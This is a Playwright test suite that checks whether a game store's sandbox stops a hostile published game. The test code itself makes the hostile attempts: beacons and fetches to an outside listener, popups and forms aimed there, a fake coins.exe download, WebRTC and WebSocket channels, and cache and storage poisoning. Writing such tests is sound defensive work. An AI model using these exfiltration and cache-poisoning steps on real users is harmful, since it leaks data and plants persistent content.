import type { BrowserContext, Frame, Page } from '@playwright/test';
import { callApi, countIn, gamesOf, press, savesHere } from './support/actions.ts';
import { until, workerReady } from './support/browser.ts';
import { createFaultyProxy } from './support/faultyProxy.ts';
import { inOriginOf } from './support/gameOrigin.ts';
import { frameOf, type Listener, openListener, play, publisher } from './support/hostileGame.ts';
import { become } from './support/seededStore.ts';
import { test as base, expect } from './support/test.ts';

type Tried = Record<string, { got?: string; no?: string }>;
declare const results: Promise<Tried>;
declare const away: Record<string, () => void>;
declare const rewrite: () => Promise<number>;
declare const thieves: Record<string, () => Promise<string>>;

const test = base.extend<{ /** Somebody elsewhere. */ elsewhere: Listener }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads from the pattern which fixtures this one needs
  async elsewhere({}, use) {
    const listener = await openListener();
    await use(listener);
    listener.close();
  },
});

type Game = { gameUrl: string };

async function keep(page: Page, url: string, id: string): Promise<void> {
  await page.goto(`${url}/game/${id}`);
  await press(page, 'Download');
  await expect(page.getByText('Downloaded').first()).toBeVisible();
}

/** The game from its beginning, in the page that plays it already. */
async function anew(page: Page, id: string): Promise<Frame> {
  await page.evaluate(async () => {
    const frame = document.querySelector('iframe:not([hidden])') as HTMLIFrameElement;
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    frame.src = new URL('/', frame.src).href;
    await loaded;
  });
  // It may be on its way from the last attempt still.
  return until('the game again', async () => {
    const frame = frameOf(page, id);
    return (await frame?.evaluate(() => true).catch(() => false)) ? frame : undefined;
  });
}

/** What happens to the browser that no page may do: each is noted as it happens. */
function watched(context: BrowserContext, page: Page): string[] {
  const seen: string[] = [];
  context.on('page', (other) => seen.push(`opened ${other.url()}`));
  page.on('dialog', (dialog) => {
    seen.push(`showed “${dialog.message()}”`);
    dialog.dismiss().catch(() => {});
  });
  page.on('download', (file) => seen.push(`saved ${file.suggestedFilename()}`));
  // What the app opens above the page has an entry in the history at the same address (pwa/ui/overlays/layer.ts).
  let last = page.url();
  page.on('framenavigated', (frame) => {
    if (frame !== page.mainFrame()) return;
    if (frame.url() !== last) seen.push(`went to ${frame.url()}`);
    last = frame.url();
  });
  return seen;
}

/** What the game says that it had saved. */
const forgedItems = [['coins', 'evil']];

const granted = ['camera', 'microphone', 'geolocation', 'clipboard-read', 'clipboard-write', 'midi'];

/** What any page gets that asks, and why it may. */
const harmless: Record<string, string> = {
  'the battery': 'there is no policy for it, and nothing that is read leaves the device',
  'an advertisement group': 'Chromium has taken these away and answers as before',
};

const attempts = 180;

/** What Chromium has on other computers only: here nothing could be tried. */
const absent = ['Bluetooth', 'sharing', 'contacts', 'a shared storage across sites'];
const isAbsent = (no: string) => /is not (a function|a constructor|defined)|properties of (undefined|null)/.test(no);

/** What was tried, and what came of it, by name; nothing may have been got. */
function none(tried: Tried): void {
  const all = Object.entries(tried);
  const got = all.flatMap(([name, { got: loot }]) => (loot && !harmless[name] ? [`${name}: ${loot}`] : []));
  expect(got, 'what a hostile game got').toEqual([]);
  const untried = all.flatMap(([name, { no = '' }]) =>
    isAbsent(no) && !absent.includes(name) ? [`${name}: ${no}`] : [],
  );
  expect(untried, 'what was not tried').toEqual([]);
  expect(all.length, 'all of them were made').toBe(attempts);
  const told = all.map(
    ([name, { got: loot, no = '' }]) => `  ${name}: ${loot ? `${loot}, but ${harmless[name]}` : no}`,
  );
  console.log(`${all.length} attempts\n${told.map((line) => line.slice(0, 160)).join('\n')}`);
}

type Watch = { heard: string[]; strange: string[]; seen: string[] };
/** Nothing was sent elsewhere, nothing came to the app that its own pages did not ask, and no page did what it may not. */
const quiet = ({ heard, strange, seen }: Watch, when: string) =>
  expect({ heard, strange, seen }, when).toEqual({ heard: [], strange: [], seen: [] });

/** A line to the store that notes what is asked of it by a page that is not its own. */
function watchedLine() {
  const strange: string[] = [];
  const line = createFaultyProxy(({ method, url, headers }) => {
    const site = headers['sec-fetch-site'];
    if (site && site !== 'same-origin' && site !== 'none') strange.push(`${method} ${url} ${headers.cookie ?? ''}`);
  });
  return { line, strange };
}

/** Where a frame may be: at the app, at the game, or nowhere. */
const isHome = (url: string, app: string, id: string) =>
  url.startsWith(`${app}/`) || url.includes(`//g-${id}`) || /^(about|chrome-error|blob|data):|^$/.test(url);

/** A page without our rules is heard in each of these ways: silence means something here. */
async function isHeard(context: BrowserContext, { outside, knocked, heard }: Listener): Promise<void> {
  const free = await context.newPage();
  await free.goto(`${outside}/page`);
  await free.evaluate(
    async ([away, door]) => {
      await fetch('/fetch');
      new WebSocket(`${away.replace('http', 'ws')}/socket`);
      fetch(door).catch(() => {});
      const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(away).host}` }] });
      call.createDataChannel('x');
      await call.setLocalDescription();
    },
    [outside, knocked] as const,
  );
  for (const way of ['/page', '/fetch', '/socket', '/knock', '/call'])
    await until(`${way} to be heard`, () => heard.includes(way));
  await free.close();
  heard.length = 0;
}

test('a hostile game gets nothing it tries, of the device, of the app, of another game or from elsewhere', async ({
  newStore,
  newContext,
  elsewhere,
}) => {
  const { line, strange } = watchedLine();
  const store = await newStore({ line });
  const { url } = store;
  const { outside, knocked, heard } = elsewhere;
  const pupil = await newContext({ serviceWorkers: 'allow' });
  await pupil.grantPermissions(granted);
  const maya = await become(pupil, url, 'maya');
  const victim = (await gamesOf(url))('Tide Cards');
  const { gameUrl } = await maya<Game>('get', `/api/games/${victim}`);
  const publish = await publisher(newContext, url);
  const said = { outside, knocked, other: new URL(gameUrl).origin, tries: true };
  const [one, two] = [await publish('Coin Rush', said), await publish('Coin Rain', said)];
  const page = await pupil.newPage();
  await keep(page, url, victim);
  await keep(page, url, one);
  await workerReady(page);
  await isHeard(pupil, elsewhere);
  const before = { cookies: await pupil.cookies(url), wishes: countIn(store, 'wishlists') };

  // Both at once, each in a window of its own, as two that would like to meet.
  await play(await pupil.newPage(), url, two);
  const frame = await play(page, url, one);
  const seen = watched(pupil, page);
  none(await frame.evaluate(() => results));
  quiet({ heard, strange, seen }, 'while it plays');
  expect(await pupil.cookies(url), 'the app’s cookies').toEqual(before.cookies);
  expect(countIn(store, 'wishlists')).toBe(before.wishes);
  expect(
    (await savesHere(page)).map(({ items }) => items),
    'forged saves',
  ).not.toContainEqual(forgedItems);
  // The app and another game still answer, whatever cookies there are.
  expect((await (await play(page, url, victim)).title()).length, 'another game').toBeGreaterThan(0);
  expect(await callApi<object>(page, 'GET', '/api/auth/user')).toMatchObject({ username: 'maya' });
});

test('a hostile game leads its frame and the app nowhere else', async ({ newStore, newContext, elsewhere }) => {
  const { line, strange } = watchedLine();
  const { url } = await newStore({ line });
  const { outside, heard } = elsewhere;
  const pupil = await newContext({ serviceWorkers: 'allow' });
  const maya = await become(pupil, url, 'maya');
  const { gameUrl } = await maya<Game>('get', `/api/games/${(await gamesOf(url))('Tide Cards')}`);
  const id = await (await publisher(newContext, url))('Coin Rush', { outside, other: new URL(gameUrl).origin });
  const page = await pupil.newPage();
  // With the app's worker, which answers for the app's pages from then on, and two pages to go back to.
  await page.goto(`${url}/who-we-are`);
  await workerReady(page);
  await page.goto(`${url}/library`);
  const frame = await play(page, url, id);
  const watch = { heard, strange, seen: watched(pupil, page) };
  for (const name of await frame.evaluate(() => Object.keys(away))) {
    const from = await anew(page, id);
    const root = from.url();
    // Whether it comes elsewhere, is refused or stays: most ways end in a page of another address, and soon.
    const moved = page.waitForEvent('framenavigated', { predicate: (frame) => frame.url() !== root });
    await from.evaluate((way) => void setTimeout(() => away[way]?.(), 0), name);
    await Promise.race([moved.catch(() => {}), page.waitForTimeout(500)]);
    const where = page.frames().map((each) => each.url());
    expect(
      where.filter((address) => !isHome(address, url, id)),
      name,
    ).toEqual([]);
    quiet(watch, name);
  }
  // What came of one late is noted all the same.
  await page.waitForTimeout(500);
  quiet(watch, 'after all of them');
});

test('what a hostile game puts in the place of its files is never played, with the store gone or back', async ({
  newStore,
  newContext,
  elsewhere,
}) => {
  const { line, strange } = watchedLine();
  const store = await newStore({ line, killable: true });
  const { url } = store;
  const { outside, heard } = elsewhere;
  const pupil = await newContext({ serviceWorkers: 'allow' });
  await become(pupil, url, 'maya');
  const id = await (await publisher(newContext, url))('Coin Rush', { outside });
  const page = await pupil.newPage();
  await keep(page, url, id);
  await workerReady(page);
  const { gameUrl } = await callApi<Game>(page, 'GET', `/api/games/${id}`);
  const { buildId } = await callApi<{ buildId: string }>(page, 'GET', `/api/games/${id}/build`);
  expect(await (await play(page, url, id)).evaluate(() => rewrite())).toBeGreaterThan(0);
  const seen = watched(pupil, page);
  const [about, playing] = [`${url}/game/${id}`, `${url}/game/${id}?play=1`];
  const isRewritten = () => Promise.all(page.frames().map((frame) => frame.getByText('Rewritten').count()));

  await store.kill();
  await page.goto(playing);
  const element = await page.locator('iframe:not([hidden])').elementHandle();
  await expect.poll(async () => (await element?.contentFrame())?.url()).toMatch(/^chrome-error:/);
  expect(new Set(await isRewritten())).toEqual(new Set([0]));
  await store.start();
  await (await play(page, url, id)).getByText('Loading coins').waitFor({ state: 'attached' });
  expect(new Set(await isRewritten())).toEqual(new Set([0]));

  // Its page brings the copy anew.
  await page.goto(about);
  const kept = async (name: string) => (await (await caches.open(name)).match('/index.html'))?.text();
  await expect.poll(() => inOriginOf(page, gameUrl, kept, `game-${buildId}`)).toContain('Loading coins');
  await expect(page.getByText(/^Downloaded \d/)).toBeVisible();
  await store.kill();
  await (await play(page, url, id)).getByText('Loading coins').waitFor({ state: 'attached' });
  const ours = [about, playing].map((address) => `went to ${address}`);
  quiet({ heard, strange, seen: seen.filter((one) => !ours.includes(one)) }, 'from what it had put in their place');
});

test('workers of a hostile game neither find nor remove its kept files, and it plays offline after', async ({
  newStore,
  newContext,
}) => {
  const { url } = await newStore();
  const pupil = await newContext({ serviceWorkers: 'allow' });
  await become(pupil, url, 'maya');
  const id = await (await publisher(newContext, url))('Coin Rush');
  const page = await pupil.newPage();
  await keep(page, url, id);
  await workerReady(page);
  const { gameUrl } = await callApi<Game>(page, 'GET', `/api/games/${id}`);
  const count = () => caches.keys().then((names) => names.filter((name) => name.startsWith('game-')).length);
  // Once their scripts come from the store, then from the copy that they would remove.
  for (const isOffline of [false, true, true]) {
    await pupil.setOffline(isOffline);
    const frame = await play(page, url, id);
    await frame.getByText('Loading coins').waitFor({ state: 'attached' });
    for (const name of await frame.evaluate(() => Object.keys(thieves)))
      expect(await frame.evaluate((way) => thieves[way]?.(), name), name).toBe('');
    await page.goto(`${url}/game/${id}`);
    await expect(page.getByText(/^Downloaded \d/)).toBeVisible();
    expect(await inOriginOf(page, gameUrl, count, undefined)).toBe(1);
  }
});

/** What a game may try in a tab that it would not in a frame, each by a way that asks nobody; and traces for whoever comes next. */
const inTab = (outside: string) => {
  const link = (said: Partial<HTMLAnchorElement>) =>
    Object.assign(document.body.appendChild(document.createElement('a')), said).click();
  const opened = [open(`${outside}/opened`), open('', '_blank'), open(`${outside}/named`, 'other', 'popup')];
  link({ href: `${outside}/link`, target: '_blank' });
  link({ href: `${outside}/opener`, target: '_blank', rel: 'opener' });
  link({ href: URL.createObjectURL(new Blob(['MZ'])), download: 'coins.exe' });
  const form = Object.assign(document.createElement('form'), { action: `${outside}/form`, target: '_blank' });
  document.body.append(form);
  form.submit();
  fetch(`${outside}/fetch`).catch(() => {});
  navigator.sendBeacon(`${outside}/beacon`, 'coins');
  new Image().src = `${outside}/image`;
  return opened.map((other) => other === null);
};
const leaveTraces = async () => {
  localStorage.setItem('trace', '1');
  sessionStorage.setItem('trace', '1');
  // Past the store's script, which hides the caches of the store.
  const inside = document.body.appendChild(document.createElement('iframe')).contentWindow as Window &
    typeof globalThis;
  for (const name of [...(await inside.caches.keys()), 'play-tab', 'game-trace'])
    for (const path of ['/_play/tab.html', '/'])
      await (await inside.caches.open(name)).put(path, new inside.Response('trace'));
};
const traces = async () => ({
  ...{ local: { ...localStorage }, session: { ...sessionStorage }, caches: await caches.keys() },
  worker: navigator.serviceWorker?.controller ?? null,
});

test('a hostile game in a tab of its own opens no other, saves no file, sends nothing, and leaves nothing for who comes next', async ({
  newStore,
  newContext,
  elsewhere,
}) => {
  const { url } = await newStore();
  const { outside, heard } = elsewhere;
  const pupil = await newContext({ serviceWorkers: 'allow' });
  await become(pupil, url, 'maya');
  const id = await (await publisher(newContext, url))('Coin Rush', { outside });
  const asked = await pupil.newPage();
  await asked.goto(url);
  const { gameUrl } = await callApi<Game>(asked, 'GET', `/api/games/${id}`);
  const tab = await pupil.newPage();
  const come = async () => {
    await tab.goto(gameUrl);
    await tab.getByText('Loading coins').waitFor({ state: 'attached' });
  };
  await come();
  /** All but the mark by which the game tries once in a tab, whenever it comes to that. */
  const left = async () => {
    const all = (await tab.evaluate(traces)) as { session: Record<string, string> };
    const { tried: _, ...session } = all.session;
    return { ...all, session };
  };
  const empty = await left();
  const seen = watched(pupil, tab);
  expect(await tab.evaluate(inTab, outside)).toEqual([true, true, true]);
  await tab.waitForTimeout(1_000);
  expect({ seen, heard }).toEqual({ seen: [], heard: [] });
  await tab.evaluate(leaveTraces);
  expect(await left()).not.toEqual(empty);
  await come();
  expect(await left()).toEqual(empty);
});
